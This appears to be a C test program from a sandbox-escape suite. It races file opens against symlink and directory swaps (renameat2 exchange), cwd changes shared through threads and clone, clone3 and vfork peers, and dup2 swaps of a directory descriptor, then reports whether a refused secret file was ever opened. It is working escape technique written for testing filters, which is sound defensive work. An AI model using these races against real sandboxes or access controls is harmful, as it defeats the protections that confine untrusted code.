/* race_fs: change the file system or the shared cwd/descriptor table between check and open.
 *
 *   race_fs MODE SECD PUBD WORK [ITERATIONS [SECONDS]]
 *
 * SECD holds secret.txt (refused); PUBD holds a decoy secret.txt; WORK is the attacker's.
 *
 * MODE: symlink      WORK/link and WORK/alt are symlinks to the decoy and to the secret; a
 *                    thread swaps them (renameat2 RENAME_EXCHANGE) while we open WORK/link
 *       dir          WORK/d is a real directory with a decoy secret.txt, WORK/alt a symlink to
 *                    SECD; a thread swaps them while we open WORK/d/secret.txt
 *       symlink_fork, dir_fork
 *                    the same swaps done by a forked process that shares nothing with us
 *       cwd_thread   a sibling thread (CLONE_FS) fchdir()s between PUBD and SECD while we open
 *                    "secret.txt" relative to the cwd
 *       cwd_clone    the same from a clone(CLONE_FS) peer process
 *       dirfd_thread a sibling thread dup2()s a PUBD or SECD descriptor onto the dirfd we pass
 *                    to openat(dirfd, "secret.txt")
 *       dirfd_clone  the same from a clone(CLONE_FILES) peer process
 *       cwd_vfork    clone(CLONE_VFORK|CLONE_VM|CLONE_FS): a vfork that shares our cwd; the
 *                    child execs this program again (flip_cwd), which keeps sharing our fs
 *                    context and fchdir()s between PUBD and SECD (the engine used to take a
 *                    vfork for one that shares memory only)
 *       cwd_thread_nofiles
 *                    a thread made with CLONE_FS but without CLONE_FILES flips the cwd
 *       cwd_clone3, dirfd_clone3
 *                    cwd_clone and dirfd_clone with the peer made by clone3 (its flags are in
 *                    memory: only the kernel can say what the child shares)
 *       cwd_moved    our cwd is PUBD/q/b and we open "../../secret.txt"; a forked process
 *                    (sharing nothing with us: not memory, cwd nor descriptors) swaps PUBD/q
 *                    with SECD/q (RENAME_EXCHANGE): the *start* of the path moves
 *       dirfd_moved  the same through a descriptor of PUBD/q/b: openat(fd, "../../secret.txt")
 * Each fd obtained is checked by inode and content: never the secret.  With ESC_OWN_FILTER=1
 * in the environment it first installs a filter of its own (race.h).
 * Class 2 (races between check and use).
 */
#include "race.h"

#include <linux/fs.h>
#include <linux/sched.h>

static volatile int stop;
static volatile long *flips;
static char work_link[4096], work_alt[4096];
static int pubfd, secfd;
#define DFD 77

static void *swapper(void *arg) {
    (void)arg;
    while (!stop) {
        syscall(SYS_renameat2, AT_FDCWD, work_link, AT_FDCWD, work_alt, RENAME_EXCHANGE);
        (*flips)++;
    }
    return NULL;
}

static void *cwd_flipper(void *arg) {
    (void)arg;
    while (!stop) {
        fchdir(pubfd);
        fchdir(secfd);
        (*flips)++;
    }
    return NULL;
}

static void *fd_flipper(void *arg) {
    (void)arg;
    while (!stop) {
        dup2(pubfd, DFD);
        dup2(secfd, DFD);
        (*flips)++;
    }
    return NULL;
}

static char moving_a[4096], moving_b[4096];

static void *mover(void *arg) {
    (void)arg;
    while (!stop) {
        syscall(SYS_renameat2, AT_FDCWD, moving_a, AT_FDCWD, moving_b, RENAME_EXCHANGE);
        (*flips)++;
    }
    return NULL;
}

static int clone_fn(void *arg) {
    void *(*fn)(void *) = arg;
    fn(NULL);
    return 0;
}

/* flip_cwd READY_FD SECD PUBD: what the cwd_vfork child execs -- it shares the caller's fs
 * context (CLONE_FS survives exec) and flips its cwd until killed */
static void flip_cwd_forever(const char *ready, const char *secd, const char *pubd) {
    pubfd = open(pubd, O_RDONLY | O_DIRECTORY);
    secfd = open(secd, O_PATH | O_DIRECTORY);
    fchdir(secfd);
    fchdir(pubfd);
    if (write(atoi(ready), "x", 1) != 1)
        _exit(1);
    for (;;) {
        fchdir(pubfd);
        fchdir(secfd);
    }
}

static int vfork_exec(void *arg) {
    char **child_argv = arg;
    execv(child_argv[0], child_argv);
    _exit(127);
}

static long clone3_peer(unsigned long long flags) {
    struct clone_args args = {.flags = flags, .exit_signal = SIGCHLD};
    return syscall(SYS_clone3, &args, sizeof args);
}

int main(int argc, char **argv) {
    if (argc == 5 && !strcmp(argv[1], "flip_cwd"))
        flip_cwd_forever(argv[2], argv[3], argv[4]);
    if (argc < 5)
        usage("race_fs MODE SECD PUBD WORK [ITERATIONS [SECONDS]]");
    const char *mode = argv[1], *secd = argv[2], *pubd = argv[3], *work = argv[4];
    struct budget budget;
    budget_args(&budget, argc, argv, 5);
    if (getenv("ESC_OWN_FILTER"))
        own_filter(argv);
    char target[4096], path[4096];
    const char *open_path = "secret.txt";
    int dirfd = AT_FDCWD;
    void *(*fn)(void *) = NULL;
    int clone_flags = 0;

    flips = shared_page(4096, 0);
    pubfd = open(pubd, O_RDONLY | O_DIRECTORY);
    secfd = open(secd, O_PATH | O_DIRECTORY);
    snprintf(work_link, sizeof work_link, "%s/link", work);
    snprintf(work_alt, sizeof work_alt, "%s/alt", work);
    if (!strcmp(mode, "symlink") || !strcmp(mode, "symlink_fork")) {
        snprintf(target, sizeof target, "%s/secret.txt", pubd);
        symlink(target, work_link);
        snprintf(target, sizeof target, "%s/secret.txt", secd);
        symlink(target, work_alt);
        open_path = work_link;
        fn = swapper;
    } else if (!strcmp(mode, "dir") || !strcmp(mode, "dir_fork")) {
        snprintf(work_link, sizeof work_link, "%s/d", work);
        mkdir(work_link, 0755);
        snprintf(path, sizeof path, "%s/d/secret.txt", work);
        write_file(path, "decoy in a real directory\n");
        symlink(secd, work_alt);
        snprintf(path, sizeof path, "%s/d/secret.txt", work);
        open_path = path;
        fn = swapper;
    } else if (!strcmp(mode, "cwd_thread") || !strcmp(mode, "cwd_clone")
               || !strcmp(mode, "cwd_clone3") || !strcmp(mode, "cwd_thread_nofiles")) {
        fn = cwd_flipper;
        clone_flags = CLONE_FS;
    } else if (!strcmp(mode, "cwd_vfork")) {
        fn = NULL;
    } else if (!strcmp(mode, "dirfd_thread") || !strcmp(mode, "dirfd_clone")
               || !strcmp(mode, "dirfd_clone3")) {
        dup2(pubfd, DFD);
        dirfd = DFD;
        fn = fd_flipper;
        clone_flags = CLONE_FILES;
    } else if (!strcmp(mode, "cwd_moved") || !strcmp(mode, "dirfd_moved")) {
        snprintf(moving_a, sizeof moving_a, "%s/q", pubd);
        snprintf(moving_b, sizeof moving_b, "%s/q", secd);
        snprintf(path, sizeof path, "%s/q/b", pubd);
        mkdir(moving_a, 0755);
        mkdir(moving_b, 0755);
        mkdir(path, 0755);
        snprintf(path, sizeof path, "%s/q/b", secd);
        mkdir(path, 0755);
        snprintf(path, sizeof path, "%s/q/b", pubd);
        if (!strcmp(mode, "cwd_moved")) {
            if (chdir(path) < 0)
                blocked("chdir(PUBD/q/b): %s", ename(errno));
        } else {
            dirfd = open(path, O_RDONLY | O_DIRECTORY);
        }
        open_path = "../../secret.txt";
        fn = mover;
    } else {
        usage("MODE: symlink dir symlink_fork dir_fork cwd_thread cwd_clone dirfd_thread "
              "dirfd_clone cwd_moved dirfd_moved cwd_vfork cwd_thread_nofiles cwd_clone3 "
              "dirfd_clone3");
    }

    pthread_t th = 0;
    pid_t peer = -1;
    if (strstr(mode, "_moved") || strstr(mode, "_fork")) {
        /* a plain fork: shares nothing with us but the file system itself */
        peer = fork();
        if (peer == 0) {
            fn(NULL);
            _exit(0);
        }
    } else if (strstr(mode, "_clone3")) {
        peer = clone3_peer(clone_flags);
        if (peer < 0)
            blocked("clone3: %s", ename(errno));
        if (peer == 0) {
            fn(NULL);
            _exit(0);
        }
    } else if (!strcmp(mode, "cwd_vfork")) {
        /* the child runs on our stack until its exec (we wait meanwhile: CLONE_VFORK) */
        int ready[2];
        if (pipe(ready) < 0)
            blocked("pipe: %s", ename(errno));
        char fdtext[16], self[4096];
        snprintf(fdtext, sizeof fdtext, "%d", ready[1]);
        ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
        self[n < 0 ? 0 : n] = 0;
        char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        static char *child_argv[6];
        child_argv[0] = self;
        child_argv[1] = "flip_cwd";
        child_argv[2] = fdtext;
        child_argv[3] = (char *)secd;
        child_argv[4] = (char *)pubd;
        peer = clone(vfork_exec, stack + (1 << 16), CLONE_VFORK | CLONE_VM | CLONE_FS | SIGCHLD,
                     child_argv);
        if (peer < 0)
            blocked("clone(CLONE_VFORK|CLONE_VM|CLONE_FS): %s", ename(errno));
        close(ready[1]);
        char byte;
        if (read(ready[0], &byte, 1) != 1)
            blocked("the vfork child never started flipping");
        *flips = 1;
    } else if (!strcmp(mode, "cwd_thread_nofiles")) {
        char *stack = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (clone(clone_fn, stack + (1 << 20),
                  CLONE_VM | CLONE_FS | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM, fn) < 0)
            blocked("clone(CLONE_THREAD|CLONE_FS): %s", ename(errno));
    } else if (strstr(mode, "_clone")) {
        /* a process, not a thread: its own memory (so `stop` must be shared) */
        char *stack = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        peer = clone(clone_fn, stack + (1 << 20), clone_flags | SIGCHLD, fn);
        if (peer < 0)
            blocked("clone: %s", ename(errno));
    } else {
        pthread_create(&th, NULL, fn, NULL);
    }

    wait_for_peer(flips);
    budget.start = now_s();
    struct race_tally t = {0};
    while (budget_left(&budget)) {
        race_count_open(&t, openat(dirfd, open_path, O_RDONLY));
        if (budget.done % 64 == 0)
            sched_yield(); /* on a busy machine the peer may share our CPU: let it move */
    }
    stop = 1;
    if (peer > 0) {
        kill(peer, SIGKILL);
        waitpid(peer, NULL, 0);
    } else if (th) {
        pthread_join(th, NULL);
    }
    note("%ld tries: %ld secret, %ld other file, %ld refused; %ld flips", budget.done - 1, t.got,
         t.other, t.refused, *flips);
    if (t.got)
        escaped("opened the secret %ld times (fd -> %s)", t.got, t.where);
    if (t.other == 0)
        blocked("never opened anything (%ld refused)", t.refused);
    blocked("%ld opens, none of them the secret", t.other);
}
